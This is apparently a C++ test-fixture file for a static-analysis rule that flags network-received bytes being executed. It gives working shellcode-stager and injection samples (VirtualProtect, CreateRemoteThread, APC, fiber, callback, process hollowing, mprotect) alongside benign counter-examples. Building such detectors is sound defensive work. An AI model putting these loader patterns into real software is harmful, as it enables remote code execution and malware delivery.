// Dynamic-code samples in C++: bytes received from the network made executable, started as
// a thread, injected into another process or run as a callback — reflective loaders and
// shellcode stagers — and the uses of the same APIs that execute nothing from the network.
#include <windows.h>
#include <winsock2.h>
#include <wininet.h>
#include <wincrypt.h>
#include <sys/mman.h>
#include <openssl/ssl.h>
#include <string>
#include <vector>

static std::vector<BYTE> ReceiveBlob(SOCKET s)
{
    DWORD size = 0;
    recv(s, (char *)&size, sizeof size, MSG_WAITALL);
    std::vector<BYTE> blob(size);
    recv(s, (char *)&blob[0], (int)size, MSG_WAITALL);
    return blob;
}

// ---- VirtualAlloc + copy + VirtualProtect ---------------------------------------------------

class Stager {
public:
    explicit Stager(SOCKET s) : m_sock(s), m_code(NULL), m_size(0) {}
    bool Stage();
    void Run();
private:
    SOCKET m_sock;
    LPVOID m_code;
    SIZE_T m_size;
};

bool Stager::Stage()
{
    std::vector<BYTE> blob = ReceiveBlob(m_sock);
    m_size = blob.size();
    m_code = VirtualAlloc(NULL, m_size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    memcpy(m_code, &blob[0], m_size);
    DWORD old = 0;
    return VirtualProtect(m_code, m_size, PAGE_EXECUTE_READ, &old) != FALSE; // want "dynamic-code/network-bytes-executed"
}

void Stager::Run()
{
    HANDLE t = CreateThread(NULL, 0, (LPTHREAD_START_ROUTINE)m_code, NULL, 0, NULL); // want "dynamic-code/network-bytes-executed"
    WaitForSingleObject(t, INFINITE);
}

// Shellcode downloaded with WinINet and run by a callback API.
void RunViaCallback(HINTERNET req)
{
    BYTE *buf = (BYTE *)VirtualAlloc(NULL, 1 << 20, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
    DWORD got = 0, total = 0;
    while (InternetReadFile(req, buf + total, 4096, &got) && got)
        total += got;
    EnumSystemLocalesA((LOCALE_ENUMPROCA)buf, 0); // want "dynamic-code/network-bytes-executed"
}

// The most common runner of all: call the buffer.
void RunDirect(SOCKET s)
{
    char *code = (char *)VirtualAlloc(NULL, 4096, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
    recv(s, code, 4096, 0);
    ((void (*)())code)(); // todo "dynamic-code/network-bytes-executed" calling the received buffer through a function-pointer cast is not a sink (only APIs that run an address are)
}

// Base64 over HTTPS, decoded with CryptStringToBinaryA.
void RunEncoded(HINTERNET req)
{
    char b64[8192];
    DWORD got = 0;
    InternetReadFile(req, b64, sizeof b64 - 1, &got);
    b64[got] = 0;
    BYTE raw[6144];
    DWORD rawLen = sizeof raw;
    CryptStringToBinaryA(b64, got, CRYPT_STRING_BASE64, raw, &rawLen, NULL, NULL);
    DWORD old;
    VirtualProtect(raw, rawLen, PAGE_EXECUTE_READWRITE, &old); // want "dynamic-code/network-bytes-executed"
}

// ---- injection into another process --------------------------------------------------------

void InjectInto(DWORD pid, SSL *ssl)
{
    BYTE payload[65536];
    int n = SSL_read(ssl, payload, sizeof payload);
    HANDLE proc = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);
    LPVOID remote = VirtualAllocEx(proc, NULL, n, MEM_COMMIT, PAGE_READWRITE);
    WriteProcessMemory(proc, remote, payload, n, NULL); // want "dynamic-code/network-bytes-executed"
    DWORD old;
    VirtualProtectEx(proc, remote, n, PAGE_EXECUTE_READ, &old); // want "dynamic-code/network-bytes-executed"
    CreateRemoteThread(proc, NULL, 0, (LPTHREAD_START_ROUTINE)remote, NULL, 0, NULL); // want "dynamic-code/network-bytes-executed"
    CloseHandle(proc);
}

// APC injection into the current thread and a fiber, both with the received buffer.
void RunViaApc(SOCKET s)
{
    LPVOID code = VirtualAlloc(NULL, 8192, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
    recv(s, (char *)code, 8192, 0);
    QueueUserAPC((PAPCFUNC)code, GetCurrentThread(), 0); // want "dynamic-code/network-bytes-executed"
    SleepEx(0, TRUE);
}

void RunViaFiber(SOCKET s)
{
    LPVOID code = VirtualAlloc(NULL, 8192, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
    recv(s, (char *)code, 8192, 0);
    ConvertThreadToFiber(NULL);
    LPVOID fiber = CreateFiber(0, (LPFIBER_START_ROUTINE)code, NULL); // want "dynamic-code/network-bytes-executed"
    SwitchToFiber(fiber);
}

void RunViaEnumWindows(SOCKET s)
{
    LPVOID code = VirtualAlloc(NULL, 8192, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
    recv(s, (char *)code, 8192, 0);
    EnumChildWindows(NULL, (WNDENUMPROC)code, 0); // want "dynamic-code/network-bytes-executed"
}

// A second stage written into a suspended child process and its protection flipped.
void Hollow(SOCKET s, PROCESS_INFORMATION &pi, LPVOID base)
{
    std::vector<BYTE> image = ReceiveBlob(s);
    WriteProcessMemory(pi.hProcess, base, image.data(), image.size(), NULL); // want "dynamic-code/network-bytes-executed"
    DWORD old;
    VirtualProtectEx(pi.hProcess, base, image.size(), PAGE_EXECUTE_READ, &old); // want "dynamic-code/network-bytes-executed"
    ResumeThread(pi.hThread);
}

// ---- POSIX --------------------------------------------------------------------------------

void PosixStage(int sock)
{
    size_t len = 16384;
    void *page = mmap(nullptr, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    recv(sock, page, len, MSG_WAITALL);
    mprotect(page, len, PROT_READ | PROT_EXEC); // want "dynamic-code/network-bytes-executed"
    ((void (*)(void))page)();
}

// ---- must not match ---------------------------------------------------------------------

void ProtectReceived(SOCKET s)
{
    BYTE *buf = (BYTE *)VirtualAlloc(NULL, 4096, MEM_COMMIT, PAGE_READWRITE);
    recv(s, (char *)buf, 4096, 0);
    DWORD old;
    VirtualProtect(buf, 4096, PAGE_READONLY, &old); // ok: made read-only, not executable
}

// An in-process hook writes a constant trampoline and makes it executable.
void InstallTrampoline(BYTE *target)
{
    static const BYTE jmp[] = { 0x48, 0xB8, 0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xE0 };
    DWORD old;
    VirtualProtect(target, sizeof jmp, PAGE_EXECUTE_READWRITE, &old); // ok: the hooked function's own address
    memcpy(target, jmp, sizeof jmp);
    VirtualProtect(target, sizeof jmp, old, &old); // ok: restoring the old protection
}

static DWORD WINAPI HandleRequest(LPVOID param)
{
    const char *request = (const char *)param;
    OutputDebugStringA(request);
    return 0;
}

// The received request is handed to a worker thread as its parameter: data, not code.
void ServeRequest(SOCKET s)
{
    static char request[2048];
    recv(s, request, sizeof request, 0);
    CreateThread(NULL, 0, HandleRequest, request, 0, NULL); // ok: lpParameter is data handed to a local thread function
}

// Injecting a DLL path (a constant) is injection, but not of network bytes.
void InjectMonitor(DWORD pid)
{
    static const char dll[] = "C:\\Program Files\\AvCorp\\amsi_monitor.dll";
    HANDLE proc = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);
    LPVOID remote = VirtualAllocEx(proc, NULL, sizeof dll, MEM_COMMIT, PAGE_READWRITE);
    WriteProcessMemory(proc, remote, dll, sizeof dll, NULL); // ok: constant bytes
    CreateRemoteThread(proc, NULL, 0, (LPTHREAD_START_ROUTINE)LoadLibraryA, remote, 0, NULL); // ok: LoadLibraryA with a constant path
}
